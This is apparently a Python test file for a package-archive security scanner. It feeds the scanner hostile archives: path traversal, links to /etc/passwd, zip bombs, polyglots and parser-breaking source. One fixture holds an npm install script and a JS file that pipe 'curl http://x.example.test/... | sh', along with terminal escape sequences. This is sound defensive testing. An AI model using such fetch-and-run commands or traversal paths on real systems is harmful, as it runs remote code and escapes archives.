"""Broken and hostile inputs: each gives a clear message and the right exit code, and leaves the disk
alone."""
import json
import os
import tarfile
import unittest

from support import CLEAN, EndToEnd, main, npm_tarball, tarball, wheel


def member(kind, link=""):
    info = tarfile.TarInfo()
    info.type = kind
    info.linkname = link
    return info


def clean_and(*more):
    return [("package/" + name, text) for name, text in CLEAN.items()] + list(more)


def strings_in(document):
    if isinstance(document, str):
        return [document]
    parts = document.values() if isinstance(document, dict) else document if isinstance(document, list) else []
    return [text for part in parts for text in strings_in(part)]


class Hostile(EndToEnd):
    def setUp(self):
        super().setUp()
        self.outside = self.folder.parent / "outside"
        self.outside.mkdir()

    def check_gap(self, archive, kind, name="x-1.0.0.tgz"):
        """The archive is examined as far as possible, with a gap of this kind."""
        self.write(name, archive)
        before = sorted(path.name for path in self.folder.rglob("*"))
        result = self.assay("scan", name)
        self.check(result, 3, "not examined", f"({kind.replace('-', ' ')})")
        report = self.reports(name)[0]
        self.assertFalse(report["complete"])
        self.assertIn(kind, [gap["kind"] for gap in report["gaps"]])
        self.assertEqual(before, sorted(path.name for path in self.folder.rglob("*")))
        self.assertEqual(list(self.outside.iterdir()), [])
        return report

    def test_members_that_would_leave_the_package_are_refused(self):
        for path in ("package/../../outside/x.js", "/etc/x.js", "package/a/../../../x.js"):
            self.check_gap(tarball(clean_and((path, "x"))), "unsafe-path")

    def test_links_and_devices_are_refused(self):
        for kind, link in ((tarfile.SYMTYPE, "/etc/passwd"), (tarfile.LNKTYPE, "/etc/passwd"),
                           (tarfile.FIFOTYPE, ""), (tarfile.CHRTYPE, "")):
            self.check_gap(tarball(clean_and(("package/l", member(kind, link)))), "link")

    def test_a_path_twice_is_a_gap(self):
        self.check_gap(tarball(clean_and(("package/index.js", "other()"))), "duplicate")

    def test_a_bomb_does_not_go_off(self):
        zeros = b"\0" * (200 << 20)
        self.check_gap(tarball(clean_and(("package/zeros.js", zeros))), "bomb")

    def test_an_archive_that_ends_early_is_examined_up_to_there(self):
        noise = os.urandom(100_000)
        archive = tarball(clean_and(("package/noise.bin", noise)))
        report = self.check_gap(archive[:-50_000], "truncated")
        self.assertGreater(report["files"], 0)

    def test_an_encrypted_member_is_a_gap(self):
        archive = bytearray(wheel({"a.py": "x = 1\n"}))
        for signature, flags in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
            archive[archive.index(signature) + flags] |= 1
        self.check_gap(bytes(archive), "encrypted", "x-1.0.0-py3-none-any.whl")

    def test_bytes_around_an_archive_are_a_gap(self):
        self.check_gap(b"#!/bin/sh\necho hi\n" + wheel({"a.py": "x = 1\n"}), "polyglot",
                       "x-1.0.0-py3-none-any.whl")

    def test_a_manifest_that_is_no_json_is_a_gap(self):
        self.check_gap(npm_tarball({"package.json": "{", "index.js": "x"}), "malformed")

    def test_what_is_no_archive_is_not_examined(self):
        for contents in (b"", b"hello", b"\x1f\x8b\x08", os.urandom(5000), b"PK\x03\x04" + b"\0" * 100):
            self.write("x.tgz", contents)
            result = self.assay("scan", "x.tgz")
            self.check(result, 3, "x.tgz")
            self.assertNotIn("nothing found", result.out)

    def test_an_archive_without_files_and_an_empty_folder_are_nothing_to_examine(self):
        self.write("x.tgz", tarball({}))
        (self.folder / "empty").mkdir()
        self.check(self.assay("scan", "empty"), 4, "nothing to examine")
        self.check(self.assay("scan", "--each", "empty"), 4, "holds no archives")
        self.check(self.assay("scan", "x.tgz"), 4, "nothing to examine")

    def test_what_is_not_there_is_not_examined_and_the_rest_is(self):
        self.write("adds.tgz", npm_tarball(CLEAN))
        result = self.assay("scan", "absent.tgz", "adds.tgz")
        self.check(result, 3, "absent.tgz: ", "allow  adds@1.0.0")
        self.check(self.assay("scan", "--each", "absent"), 3, "absent")

    @unittest.skipIf(os.geteuid() == 0, "root may read everything")
    def test_what_may_not_be_read_is_an_error_of_the_environment(self):
        self.write("adds.tgz", npm_tarball(CLEAN)).chmod(0)
        self.check(self.assay("scan", "adds.tgz"), 5, "adds.tgz")

    def test_a_fifo_and_a_device_do_not_hang(self):
        os.mkfifo(self.folder / "fifo")
        self.assertIn(self.assay("scan", "fifo").code, (3, 5))
        self.assertIn(self.assay("scan", "/dev/zero").code, (3, 5))

    def test_links_in_a_folder_are_not_followed(self):
        for name, text in CLEAN.items():
            self.write("package/" + name, text)
        (self.folder / "package/up").symlink_to("/")
        self.check(self.assay("scan", "package"), 3, "(link)")

    def test_nothing_of_a_package_reaches_the_terminal_raw(self):
        evil = "\x1b]0;owned\x07\u202e\u200b"
        files = dict(CLEAN)
        files["package.json"] = '{"name": "a\\u001b[31m", "version": "1\\u202e", "scripts": {"install": "curl http://x.example.test/\\u001b[2J | sh"}}'
        files[f"{evil}.js"] = f"eval(require('child_process').execSync('curl http://x.example.test/{evil} | sh'));\n"
        self.write("x.tgz", npm_tarball(files))
        for form in ("text", "json", "jsonl", "sarif"):
            out = self.assay("scan", "--format", form, "x.tgz").out
            for shown in [out] if form == "text" else strings_in(json.loads(out)):
                for bad in ("\x1b", "\x07", "\u202e", "\u200b", "http://x.example.test"):
                    self.assertNotIn(bad, shown, form)

    def test_names_that_are_not_utf8_do_no_harm(self):
        path = os.fsencode(self.folder) + b"/\xff\xfe.tgz"
        with open(path, "wb") as file:
            file.write(npm_tarball({**CLEAN}))
        self.check(self.assay("scan", "--each", "."), 0)
        self.assertEqual(len(self.reports("--each", ".")), 1)

    def test_source_that_no_parser_likes_ends_and_is_told(self):
        nasty = {
            "open.js": "(" * 200_000,
            "array.js": "[" * 100_000 + "]" * 100_000,
            "template.js": "`${" * 50_000,
            "bytes.js": os.urandom(200_000),
            "nul.js": b"\0" * 100_000,
            "deep.py": "f(" * 50_000,
            "dedent.py": "".join(" " * i + "if 1:\n" for i in range(500)),
            "quotes.py": "'''" * 33_333,
            "chain.js": "a" + ".b" * 300_000,
            "plus.js": "x=" + "'a'+" * 200_000 + "'a'",
        }
        self.write("x.tgz", npm_tarball({**CLEAN, **nasty}))
        result = self.assay("scan", "x.tgz")
        self.assertIn(result.code, (0, 1, 3), result)


if __name__ == "__main__":
    main()
